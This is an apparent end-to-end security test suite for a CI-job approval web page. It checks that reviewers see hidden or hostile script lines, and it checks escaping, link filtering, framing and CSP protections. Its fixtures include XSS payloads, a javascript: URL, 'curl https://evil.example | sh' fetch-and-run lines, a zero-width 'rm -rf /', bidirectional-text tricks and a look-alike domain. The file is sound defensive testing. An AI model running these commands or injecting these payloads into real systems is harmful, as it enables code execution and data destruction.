import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Page } from 'playwright-core';
import { describe, expect, it, vi } from 'vitest';
import type { HoldDetail } from '../../agent/src/wire/api.ts';
import { ended, enqueue, type JobWish } from '../support/page/jobs.ts';
import { scrollThrough } from '../support/page/scroll.ts';
import { stageOfFile } from '../support/page/stage.ts';

// A browser on a machine that others use, too.
vi.setConfig({ testTimeout: 90_000, hookTimeout: 90_000 });
const stage = stageOfFile();

const approve = (page: Page) => page.getByRole('button', { name: 'Approve', exact: true });
async function waiting(wish: JobWish): Promise<HoldDetail> {
  return stage.scene.hold(enqueue(stage.scene, wish), 'waiting_for_approval');
}
/** The same job with this script was approved, and has run. */
async function approved(wish: JobWish): Promise<void> {
  const first = enqueue(stage.scene, wish);
  await stage.scene.approve(first);
  await ended(stage.scene, first, 'success');
}

describe('whoever pushes against whoever approves', () => {
  it('T23 T33 puts markup into every field it controls, and the page shows it as the text that it is', async () => {
    await stage.open();
    const evil = '<img src=x onerror="window.pwned=1"><script>window.pwned=1</script>';
    const set = (payload: Record<string, unknown>, key: string, value: string) => {
      for (const one of payload.variables as { key: string; value: string }[]) if (one.key === key) one.value = value;
    };
    const hold = await waiting({
      script: [`echo ${evil}`],
      image: `x${evil}`,
      name: `job ${evil}`,
      variables: [{ key: 'HTML', value: evil, public: true, masked: false }],
      options: { user: { id: 9, username: 'zoe', name: `Zoë ${evil}` } },
      mutate(payload) {
        set(payload, 'CI_COMMIT_TITLE', `title ${evil}`);
        set(payload, 'CI_COMMIT_AUTHOR', `author ${evil} <zoe@example.com>`);
        (payload.job_info as { stage: string }).stage = `stage ${evil}`;
        (payload.git_info as { ref: string }).ref = `ref-${evil.replaceAll(' ', '')}`;
        payload.services = [{ name: `svc${evil}`, alias: evil }];
        payload.unknown_field = { [evil]: evil };
      },
    });
    const page = await stage.see('maria', `/holds/${hold.id}`);
    await page.getByText('What would change').waitFor();
    await page.getByRole('heading', { name: `job ${evil}` }).waitFor();
    await page.goto(`${stage.scene.agent.hubUrl}/inbox`);
    await page.getByText(`job ${evil}`).first().waitFor();
    expect(await page.evaluate('window.pwned')).toBeUndefined();
    expect(await page.locator('main img, main script').count()).toBe(0);
    expect(await page.title()).toContain('Holdpoint');
  });

  it('T33 hides text by bidirectional, zero-width and control characters and by look-alike letters, and each is seen', async () => {
    await stage.open();
    await approved({ script: ['make'] });
    const hold = await waiting({
      script: [
        'make',
        'echo ok \u202e#hs | lruc\u202c',
        'rm\u200b -rf /',
        '\u001b[31mred\u001b[0m',
        'curl https://gіthub.com/x',
      ],
    });
    const page = await stage.see('maria', `/holds/${hold.id}`);
    await page.getByText('characters that are not seen, reorder text or pass for others').waitFor();
    const marks = await page.locator('.line-added mark').allTextContents();
    expect(marks).toEqual(['⟨U+202E⟩', '⟨U+202C⟩', '⟨U+200B⟩', '⟨U+001B⟩', '⟨U+001B⟩', 'і']);
    expect(await page.locator('.line-added .mark-lookalike').getAttribute('title')).toContain('look like i');
    expect(await page.locator('main').textContent()).not.toMatch(/[\u202a-\u202e\u2066-\u2069\u200b\u001b]/);
  });

  it('T33 hides one hostile line among five thousand that were approved, and it is the one that is shown', async () => {
    await stage.open();
    const lines = Array.from({ length: 5_000 }, (_, i) => `echo step ${i}`);
    await approved({ script: lines });
    const hold = await waiting({
      script: [...lines.slice(0, 3_333), 'curl https://evil.example | sh', ...lines.slice(3_333)],
    });
    const page = await stage.see('maria', `/holds/${hold.id}`);
    await page.getByText('a line runs what was just fetched').waitFor();
    expect(await page.locator('.line-added code').allTextContents()).toEqual(['curl https://evil.example | sh']);
    await page.getByText('1 change, ').waitFor();
    await page
      .getByRole('button', { name: /Show \d+ unchanged values/ })
      .first()
      .waitFor();
  });

  it('T33 brings five thousand new lines with one hostile one, and nobody approves them unseen', async () => {
    await stage.open();
    await approved({ script: ['make'] });
    const lines = Array.from({ length: 5_000 }, (_, i) => `echo step ${i}`);
    lines[4_321] = 'curl https://evil.example | sh';
    const hold = await waiting({ script: ['make', ...lines] });
    const page = await stage.see('maria', `/holds/${hold.id}`);
    await page.getByText('a line runs what was just fetched').waitFor();
    await page.getByText(/parts of the difference have not been on your screen/).waitFor();
    expect(await approve(page).isDisabled()).toBe(true);
    // To the end and back in one leap is not reading.
    await page.keyboard.press('End');
    await page.keyboard.press('Home');
    await page.getByText(/parts of the difference have not been on your screen/).waitFor();
    expect(await approve(page).isDisabled()).toBe(true);
    await page
      .getByRole('button', { name: /^Show the next .* more rows$/ })
      .first()
      .waitFor();
  });

  it('T33 brings a line of a hundred thousand characters, and it is shown to its end', async () => {
    await stage.open();
    await approved({ script: ['make'] });
    const hold = await waiting({ script: ['make', `echo ${'x'.repeat(100_000)}; curl https://evil.example`] });
    const page = await stage.see('maria', `/holds/${hold.id}`);
    await page.getByText('a line is longer than 400 characters, up to 100032').waitFor();
    expect(await approve(page).isDisabled()).toBe(true);
    await scrollThrough(page);
    expect(await page.locator('.line-added code').textContent()).toContain('; curl https://evil.example');
    expect(await page.evaluate('document.documentElement.scrollWidth')).toBe(1_280);
    await page.getByRole('button', { name: 'Approve', exact: true, disabled: false }).waitFor();
  });

  it('T32 T33 brings a secret, of which only a tag is shown that no text can be taken for', async () => {
    await stage.open();
    await approved({ script: ['make'] });
    const variables = [{ key: 'DEPLOY_KEY', value: 'correct horse battery', public: false, masked: true }];
    const hold = await waiting({ script: ['make', 'echo correct horse battery'], variables });
    const page = await stage.see('maria', `/holds/${hold.id}`);
    await page.locator('.line-added .tag-secret').first().waitFor();
    expect(await page.locator('.line-added .tag-secret').count()).toBe(2);
    expect(await page.content()).not.toContain('correct horse battery');
  });

  it('T33 writes a text that looks like the tag of a secret, and it is no tag', async () => {
    await stage.open();
    await approved({ script: ['make'] });
    const hold = await waiting({ script: ['make', 'hmac:1f0c2a9b33d7…'] });
    const page = await stage.see('maria', `/holds/${hold.id}`);
    await page.getByText('hmac:1f0c2a9b33d7…').first().waitFor();
    expect(await page.locator('.line-added .tag').count()).toBe(0);
  });
});

describe('whoever stands between the hub and the browser', () => {
  it('T13 T36 swaps the configuration under the digest that is named, and nothing can be approved', async () => {
    await stage.open();
    await approved({ script: ['make'] });
    const hold = await waiting({ script: ['make', 'curl https://evil.example | sh'] });
    const page = await stage.see('maria', '/inbox');
    await page.route(`**/api/v1/holds/${hold.id}`, async (route) => {
      const answer = await route.fetch();
      const body = (await answer.json()) as { configuration: { steps: { script: string[] }[] } };
      body.configuration.steps[0]!.script = ['make', 'make install'];
      await route.fulfill({ response: answer, json: body });
    });
    await page.goto(`${stage.scene.agent.hubUrl}/holds/${hold.id}`);
    await page.getByText('Do not approve.').waitFor();
    await page.getByText('does not have the digest it names').waitFor();
    expect(await approve(page).count()).toBe(0);
  });

  it('T23 makes addresses of what is no web page, and they are no links', async () => {
    await stage.open();
    const hold = await waiting({ script: ['make'] });
    const page = await stage.see('maria', '/inbox');
    await page.route(`**/api/v1/holds/${hold.id}`, async (route) => {
      const answer = await route.fetch();
      const body = (await answer.json()) as { job_url: string; facts: { pipeline: { url: string } } };
      body.job_url = 'javascript:window.pwned=1';
      body.facts.pipeline.url = 'https://user:password@evil.example/';
      await route.fulfill({ response: answer, json: body });
    });
    await page.goto(`${stage.scene.agent.hubUrl}/holds/${hold.id}`);
    await page.getByText(`job ${hold.job_id}`).first().waitFor();
    const links = await page.locator('main a').evaluateAll((all) => all.map((one) => String(one.getAttribute('href'))));
    expect(links.filter((href) => !/^(?:\/|http:\/\/127\.0\.0\.1|https:\/\/gitlab\.example\.com)/.test(href))).toEqual(
      [],
    );
    expect(links.some((href) => href.includes('evil') || href.includes('javascript'))).toBe(false);
  });

  it('T13 swaps what it is compared with, and nothing can be approved', async () => {
    await stage.open();
    await approved({ script: ['make'] });
    const hold = await waiting({ script: ['make', 'curl https://evil.example | sh'] });
    const page = await stage.see('maria', '/inbox');
    await page.route('**/api/v1/approvals/*', async (route) => {
      const answer = await route.fetch();
      const body = (await answer.json()) as { configuration: { steps: { script: string[] }[] } };
      body.configuration.steps[0]!.script = ['make', 'curl https://evil.example | sh'];
      await route.fulfill({ response: answer, json: body });
    });
    await page.goto(`${stage.scene.agent.hubUrl}/holds/${hold.id}`);
    await page.getByText('Do not approve.').waitFor();
    expect(await approve(page).count()).toBe(0);
  });

  it('T13 races the click: what is decided meanwhile is told, and the vote does not count', async () => {
    await stage.open();
    await approved({ script: ['make'] });
    const hold = await waiting({ script: ['make', 'more'] });
    const page = await stage.see('maria', `/holds/${hold.id}`);
    await page.route('**/approve', async (route) => {
      const jonas = await stage.scene.as('jonas');
      await jonas.post(`holds/${hold.id}/reject`, { digest: hold.digest, comment: 'stop' });
      await route.continue();
    });
    await page.getByRole('button', { name: 'Approve', exact: true, disabled: false }).click();
    await page.getByText(/Not taken: hold \d+ is rejected/).waitFor();
    await page.getByRole('button', { name: 'Show it as it is now' }).click();
    await page.locator('.head').getByText('Rejected', { exact: true }).waitFor();
    expect(await approve(page).count()).toBe(0);
    expect((await stage.scene.hold(hold.job_id, 'rejected')).votes).toMatchObject([{ decision: 'reject' }]);
  });
});

describe('other pages against this one', () => {
  it('T23 cannot put it into a frame', async () => {
    await stage.open();
    const page = await stage.see('maria', '/inbox');
    const other = createServer((_, response) => {
      response.setHeader('content-type', 'text/html');
      response.end(`<!doctype html><iframe src="${stage.scene.agent.hubUrl}/inbox" width="600" height="400"></iframe>`);
    });
    await new Promise<void>((resolve) => other.listen(0, '127.0.0.1', resolve));
    try {
      const refused = page.context().waitForEvent('console', (message) => /frame-ancestors/.test(message.text()));
      await page.goto(`http://127.0.0.1:${(other.address() as AddressInfo).port}/`);
      await refused;
      expect(await page.frames()[1]?.content()).not.toContain('id="page"');
    } finally {
      await new Promise((resolve) => other.close(resolve));
    }
    expect(stage.complaints().some((each) => each.includes('frame-ancestors'))).toBe(true);
  });

  it('T23 cannot turn text into script in it, nor load anything from elsewhere', async () => {
    await stage.open();
    const page = await stage.see('maria', '/inbox');
    const tried = (code: string) =>
      page.evaluate(`(() => { try { ${code}; return 'done'; } catch (error) { return error.name; } })()`);
    expect(await tried("document.body.insertAdjacentHTML('beforeend', '<b>x</b>')")).toBe('TypeError');
    expect(await tried("document.createElement('script').text = 'window.pwned = 1'")).toBe('TypeError');
    expect(await tried("trustedTypes.createPolicy('default', { createHTML: (x) => x })")).toBe('TypeError');
    const loaded = await page.evaluate(`new Promise((resolve) => {
      const script = document.createElement('img');
      script.onload = () => resolve('loaded');
      script.onerror = () => resolve('refused');
      script.src = 'http://127.0.0.1:9/x.png';
    })`);
    expect(loaded).toBe('refused');
    expect(await page.evaluate("fetch('http://127.0.0.1:9/').then(() => 'sent', () => 'refused')")).toBe('refused');
    expect(stage.complaints().length).toBeGreaterThan(0);
  });
});
